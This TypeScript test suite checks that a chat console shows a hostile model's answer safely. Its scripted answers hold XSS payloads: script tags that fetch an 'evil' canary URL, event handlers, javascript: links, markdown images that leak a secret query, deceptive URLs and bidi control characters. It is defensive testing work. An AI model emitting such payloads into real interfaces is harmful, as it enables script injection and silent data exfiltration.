import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type TestContext, test } from 'node:test';
import { callTool, say } from '@bakerst/testkit/model-servers/script';
import { needsChromium } from './rig/chromium.ts';
import { startConsole } from './rig/console-under-test.ts';
import { eventually, reads, sees } from './rig/look.ts';

/** Counts who comes: a picture that loads by itself tells its server that it was read. */
async function startCanary(t: TestContext) {
  const paths: string[] = [];
  const server = createServer((request, response) => {
    paths.push(request.url ?? '');
    response.end('seen');
  }).listen(0, '127.0.0.1');
  await new Promise((ready) => server.once('listening', ready));
  t.after(() => {
    server.close();
    server.closeAllConnections();
  });
  return { paths, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

test('an answer of a hostile model', { skip: needsChromium }, async (t) => {
  const console = await startConsole(t);
  const { book } = console;
  const canary = await startCanary(t);
  const own = console.brain().origin;

  await t.test('runs nothing, loads nothing and links nowhere it should not', async () => {
    const evil = `${canary.origin}/evil`;
    book.on(
      'be evil',
      say([
        `<script>window.owned = 1; fetch('${evil}')</script>\n\n`,
        `<img src="${evil}.png" onerror="window.owned = 2"> <svg onload="window.owned = 3"></svg>\n\n`,
        `<iframe src="${evil}"></iframe><style>@import url("${evil}.css"); * { display: none }</style>\n\n`,
        `![a picture](${evil}.png?secret=1) ![by name][pic] ![inline](data:image/svg+xml;base64,PHN2Zy8+)\n\n`,
        `[pic]: ${evil}2.png\n\n`,
        '[run](javascript:window.owned=4) [run too](JaVaScRiPt:window.owned=5) [data](data:text/html,<b>x</b>)\n\n',
        `[sign out](${own}/api/v1/auth/logout) [here](/api/v1/tokens) [relative](../login)\n\n`,
        `[a bank](https://bank.example@evil.example/) <javascript:window.owned=6> [honest](${canary.origin}/page)\n\n`,
        'pay \u202eeciov\u202c to\u200bday \u{e0049}\u{e0067} \u2066x\u2069\n\n',
        '```html\n<script>window.owned = 7</script>\n```\n',
      ]),
    );
    const { page, say: write, answer, watch } = await console.open();
    await write('Now be evil');
    await eventually('it is complete', async () => (await answer(1).getAttribute('aria-busy')) === 'false');
    await reads(answer(1), /honest/);
    const text = (await answer(1).textContent()) ?? '';
    assert.ok(text.includes("<script>window.owned = 1; fetch('"), 'HTML is shown as text');
    for (const mark of ['⟨U+202E⟩', '⟨U+200B⟩', '⟨U+E0049⟩', '⟨U+2066⟩'])
      assert.ok(text.includes(mark), mark);
    assert.doesNotMatch(text, /[\u202e\u200b\u2066\u{e0049}]/u);

    const links = await answer(1).getByRole('link').all();
    const targets = await Promise.all(links.map((link) => link.getAttribute('href')));
    for (const target of targets) assert.ok(target?.startsWith(`${canary.origin}/`), `a link to ${target}`);
    for (const link of links) assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
    assert.equal(await answer(1).getByRole('img').count(), 0, 'no picture loads by itself');
    assert.equal(await page.evaluate('String(window.owned)'), 'undefined');
    assert.deepEqual(watch.foreign, [], 'no request left the browser');
    assert.deepEqual(canary.paths, []);
    assert.deepEqual(watch.errors, [], 'nothing even tried what the content policy forbids');

    const opened = page.context().waitForEvent('page');
    await answer(1)
      .getByRole('link', { name: /^Open a picture from 127\.0\.0\.1/ })
      .click();
    const beside = await opened;
    await eventually('the click loads it', () => canary.paths.length > 0);
    assert.equal(canary.paths[0], '/evil.png?secret=1');
    assert.equal(await beside.evaluate('String(window.opener)'), 'null');
    assert.equal(await beside.evaluate('document.referrer'), '', 'its server does not learn from where');
  });

  await t.test('cannot say more with a title, a note or an argument than it can with its text', async () => {
    book.on(
      '<img src=x',
      callTool('write_note', { title: '<b>\u202etitle</b>', text: `![x](${canary.origin}/note.png)` }),
      callTool('no_such<script>', { a: 1 }),
      say('done'),
    );
    const before = canary.paths.length;
    const { page, say: write, answer, watch } = await console.open();
    await write('<img src=x onerror=window.owned=1> \u202ereversed');
    await reads(answer(1), /done/);
    const closed = answer(1).getByRole('button', { expanded: false });
    while ((await closed.count()) > 0) await closed.first().click();
    await reads(answer(1), /⟨U\+202E⟩title/);
    await sees(page.getByRole('link', { name: /⟨U\+202E⟩reversed/ }).or(page.getByText(/⟨U\+202E⟩reversed/)));
    assert.equal(await page.evaluate('String(window.owned)'), 'undefined');
    assert.equal(await answer(1).getByRole('img').count(), 0);
    assert.equal(canary.paths.length, before);
    assert.deepEqual(watch.errors, []);
  });

  await t.test(
    'may be as long as it likes: 200 kB of text and a huge block of code are shown, and the page stays usable',
    async () => {
      const prose = Array.from({ length: 400 }, (_, n) => `Paragraph ${n} ${'lorem ipsum '.repeat(40)}`);
      const code = Array.from({ length: 4_000 }, (_, n) => `const line${n} = ${n};`);
      book.on(
        'go on and on',
        say([...prose.map((one) => `${one}\n\n`), '```ts\n', code.join('\n'), '\n```\n', 'The very end.']),
      );
      book.on('one more', say('One more it is.'));
      // All of that is more than the model's window: it is asked for a summary first.
      book.on('lorem ipsum', say('It went on.'));
      const { page, say: write, answer, box, watch } = await console.open();
      await write('Now go on and on');
      await reads(answer(1), /The very end\./);
      await eventually('it is complete', async () => (await answer(1).getAttribute('aria-busy')) === 'false');
      const text = (await answer(1).textContent()) ?? '';
      assert.ok(text.length > 200_000 && text.includes('const line3999 = 3999;'));
      await box.fill('still typing');
      await sees(page.getByText('The very end.'));
      await write('And one more');
      await reads(answer(2), /1 older turn was summarised.*One more it is\./);
      assert.deepEqual(watch.errors, []);
    },
  );
});
